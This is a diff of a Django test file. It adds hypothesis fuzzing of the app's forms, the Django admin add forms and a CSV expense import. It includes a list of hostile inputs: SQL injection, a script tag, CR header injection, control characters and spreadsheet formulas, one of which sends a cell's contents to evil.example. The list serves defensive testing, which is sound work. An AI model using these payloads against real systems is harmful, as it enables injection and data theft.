@@ -2,9 +2,17 @@
 changes no row (hypothesis).
 
 The forms are found, not listed: every page of the project is fetched as staff and as
-coordinator, every ``<form method="post">`` posting back to its own page is read (its inputs,
-selects and textareas), and hypothesis fills it with valid and invalid values of each kind.
-A new form is covered by itself. Delete confirmations are left out (they have no input).
+coordinator, and every add page of Django admin as an admin; every ``<form method="post">``
+posting back to its own page is read (its inputs, selects and textareas), and hypothesis fills
+it with valid and invalid values of each kind, hostile ones among them (NUL and other control
+characters, a CR before a header line, formulas, texts just under and over every maximum
+length). A new form is covered by itself. Delete confirmations are left out (no input).
+
+The CSV import is fuzzed twice: as a service (the import agrees with its preview, all or
+nothing) and through its pages (upload, then confirm), where a template error would show.
+
+Each example starts from the same world (its writes are rolled back), and compares a dump of
+every row before and after it. The forms are split in shards so that the workers share them.
 """
 
 import csv
@@ -14,10 +22,13 @@ from html.parser import HTMLParser
 
 import pytest
 from django.apps import apps
+from django.conf import settings as django_settings
+from django.contrib import admin
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import transaction
 from django.test import Client
+from django.urls import reverse
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
@@ -25,12 +36,20 @@ from finance.expense_import import Fate, NothingToImport, import_expenses, previ
 from finance.models import Expense
 from tests.test_scoped_access import app_routes, snapshot
 
-FUZZ = settings(
-    max_examples=15,
-    deadline=None,
-    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
-    database=None,
-)
+
+def fuzz_settings(examples):
+    return settings(
+        max_examples=examples,
+        deadline=None,
+        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+        database=None,
+    )
+
+
+PAGE_FORMS = fuzz_settings(30)  # a form of the app's pages
+ADMIN_FORMS = fuzz_settings(15)  # an add form of Django admin (admins are trusted, and slow)
+CSV_FILES = fuzz_settings(60)
+SHARDS = 4
 
 
 class FormParser(HTMLParser):
@@ -73,12 +92,34 @@ def post_forms(html, url):
     return [f for f in parser.forms if f["action"] in ("", url) and f["fields"]]
 
 
-any_text = st.text(max_size=300)
+# Texts an attacker would try, and texts at and over the maxima of the models' fields.
+HOSTILE_TEXTS = [
+    "a\x00b",
+    "LivA\rX-INJECTED:1",
+    "line\r\nline",
+    "\x1b[2J\x07",
+    '=HYPERLINK("http://evil.example/?"&A2,"Klicka")',
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\u2028",
+    "\u202etxt.exe",
+    '"; DROP TABLE x; --',
+    "<script>alert(1)</script>",
+]
+LIMITS = [49, 50, 51, 99, 100, 101, 200, 201, 300, 301, 2000, 2001, 5000, 5001, 10001, 20001]
+any_text = st.one_of(
+    st.text(max_size=300),
+    st.sampled_from(HOSTILE_TEXTS),
+    st.sampled_from(LIMITS).map(lambda n: "x" * n),
+    st.integers(1, 80).map(lambda n: "a\n" * n),
+)
 iso_dates = st.dates(date(2018, 1, 1), date(2021, 12, 31)).map(date.isoformat)
 numbers = st.one_of(
     st.integers(-(10**15), 10**15).map(str),
     st.decimals(allow_nan=True, allow_infinity=True, places=2).map(str),
-    st.sampled_from(["1 000", "12,5", "1e9", "-0", "0", "NaN"]),
+    st.sampled_from(["1 000", "12,5", "1e9", "-0", "0", "NaN", "1000", "1001", "32768", "2e64"]),
 )
 
 
@@ -111,7 +152,7 @@ def form_data(fields):
 
 
 def discover_forms(world, clients):
-    """[(role, url, route name, fields)] of every fuzzable POST form of the project."""
+    """[(role, url, route name, fields)] of every fuzzable POST form of the app's pages."""
     found = []
     for route in app_routes():
         if "delete" in (route.name or ""):
@@ -127,6 +168,23 @@ def discover_forms(world, clients):
     return found
 
 
+def discover_admin_forms(client):
+    """[("admin", url, name, fields)] of the add form of every model of ours in Django admin."""
+    found = []
+    for model in admin.site._registry:
+        opts = model._meta
+        if opts.app_label not in django_settings.PROJECT_APPS:
+            continue
+        name = f"admin:{opts.app_label}_{opts.model_name}_add"
+        url = reverse(name)
+        response = client.get(url)
+        if response.status_code != 200:
+            continue
+        for form in post_forms(response.content.decode(), url):
+            found.append(("admin", url, name, form["fields"]))
+    return found
+
+
 def rows_are_valid(changed_labels):
     for label in changed_labels:
         model = apps.get_model(label)
@@ -136,8 +194,8 @@ def rows_are_valid(changed_labels):
             obj.full_clean()
 
 
-def fuzz_form(client, url, name, fields):
-    @FUZZ
+def fuzz_form(client, url, name, fields, fuzz):
+    @fuzz
     @given(data=form_data(fields))
     def check(data):
         # Each example starts from the same world: its writes are rolled back at the end.
@@ -154,18 +212,16 @@ def fuzz_form(client, url, name, fields):
     check()
 
 
-@pytest.mark.django_db
-def test_every_form_refuses_or_saves_valid_data(world, staff_user, coordinator):
-    from django.urls import reverse
-
-    from reporting.models import Report
-
+def every_form(world, staff_user, coordinator, admin_user):
     clients = {}
-    for role, user in (("staff", staff_user), ("coordinator", coordinator)):
+    for role, user in (("staff", staff_user), ("coordinator", coordinator), ("admin", admin_user)):
         clients[role] = Client()
         clients[role].force_login(user)
+    admin_client = clients.pop("admin")
     forms = discover_forms(world, clients)
     # The world's report is submitted; the final report is a draft with an editable form.
+    from reporting.models import Report
+
     draft = Report.objects.get(deadline__agreement=world["a"]["agreement"], deadline__kind="final")
     draft_url = reverse("reporting:report_edit", args=[draft.pk])
     page = clients["staff"].get(draft_url).content.decode()
@@ -173,6 +229,15 @@ def test_every_form_refuses_or_saves_valid_data(world, staff_user, coordinator):
         ("staff", draft_url, "reporting:report_edit", f["fields"])
         for f in post_forms(page, draft_url)
     ]
+    forms += discover_admin_forms(admin_client)
+    clients["admin"] = admin_client
+    return clients, forms
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("shard", range(SHARDS))
+def test_every_form_refuses_or_saves_valid_data(world, staff_user, coordinator, admin_user, shard):
+    clients, forms = every_form(world, staff_user, coordinator, admin_user)
     names = {name for _, _, name, _ in forms}
     # Not vacuous: the forms of the features are found.
     assert {
@@ -182,9 +247,19 @@ def test_every_form_refuses_or_saves_valid_data(world, staff_user, coordinator):
         "finance:payment_create",
         "finance:expense_import",
         "reporting:report_edit",
+        "reporting:report_return",
+        "admin:partnership_agreement_add",
+        "admin:partnership_organisation_add",
+        "admin:visits_venue_add",
     } <= names, names
-    for role, url, name, fields in forms:
-        fuzz_form(clients[role], url, name, fields)
+    import time
+
+    print(len(forms))
+    for role, url, name, fields in forms[shard::SHARDS]:
+        fuzz = ADMIN_FORMS if role == "admin" else PAGE_FORMS
+        t = time.perf_counter()
+        fuzz_form(clients[role], url, name, fields, fuzz)
+        print(name, len(fields), f"{time.perf_counter() - t:.1f}s")
 
 
 # --- The CSV import ---------------------------------------------------------------------------
@@ -215,6 +290,17 @@ CELLS = {
     "amount": st.one_of(numbers, st.integers(0, 10**6).map(str), any_text),
     "voucher": st.one_of(st.integers(1, 50).map(lambda n: f"V{n}"), any_text),
 }
+# What a file can be broken with after it is written: a row cut short, a quote left open,
+# text after a closing quote, a field over the csv module's limit, stray bytes.
+BREAKAGES = [
+    lambda raw: raw,
+    lambda raw: raw + b'2019-06-01;Staff;1;V9;"open\n',
+    lambda raw: raw + b'2019-06-01;Staff;1;V9;"a"b\n',
+    lambda raw: raw + b"2019-06-01;Staff\n",
+    lambda raw: raw + b"2019-06-01;Staff;1;V9;" + b"x" * 131_073 + b"\n",
+    lambda raw: raw + b"\x00\r\n\x1b",
+    lambda raw: raw[: len(raw) // 2],
+]
 
 
 @st.composite
@@ -237,8 +323,8 @@ def csv_files(draw):
     writer.writerow(header)
     writer.writerows(rows)
     encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
-    text = out.getvalue()
-    raw = text.encode(encoding, errors="replace")
+    raw = out.getvalue().encode(encoding, errors="replace")
+    raw = draw(st.sampled_from(BREAKAGES))(raw)
     return draw(st.one_of(st.just(raw), st.binary(max_size=500)))
 
 
@@ -256,7 +342,7 @@ def test_the_csv_import_imports_all_or_nothing(world):
     agreement = world["a"]["agreement"]
     outcomes = set()
 
-    @FUZZ
+    @CSV_FILES
     @given(raw=csv_files())
     @example(raw=VALID_CSV)  # the happy path is always among the examples
     def check(raw):
@@ -280,6 +366,38 @@ def test_the_csv_import_imports_all_or_nothing(world):
 
     check()
     assert outcomes == {"refused", "imported"}, outcomes  # both paths were exercised
+
+
+@pytest.mark.django_db
+def test_the_csv_import_pages_answer_any_file(world, staff_client):
+    """Through the pages: the upload shows a preview (never a server error, whatever the file),
+    and a confirm of a file the preview refuses writes nothing."""
+    agreement = world["a"]["agreement"]
+    upload_url = reverse("finance:expense_import", args=[agreement.pk])
+    confirm_url = reverse("finance:expense_import_confirm", args=[agreement.pk])
+
+    @CSV_FILES
+    @given(raw=csv_files())
+    @example(raw=VALID_CSV)
+    def check(raw):
+        with transaction.atomic():
+            before = snapshot()
+            upload = SimpleUploadedFile("export.csv", raw, content_type="text/csv")
+            response = staff_client.post(upload_url, {"file": upload})
+            assert response.status_code == 200, raw
+            preview = response.context["preview"]
+            if preview is None:  # the form refused the upload (an empty file)
+                assert snapshot() == before
+                return
+            response = staff_client.post(confirm_url, {"sha256": preview.sha256})
+            assert response.status_code == 302, raw
+            if not preview.can_import:
+                assert snapshot() == before, raw
+            else:
+                rows_are_valid(["finance.Expense", "finance.ExpenseImport"])
+            transaction.set_rollback(True)
+
+    check()
 
 
 @pytest.mark.django_db
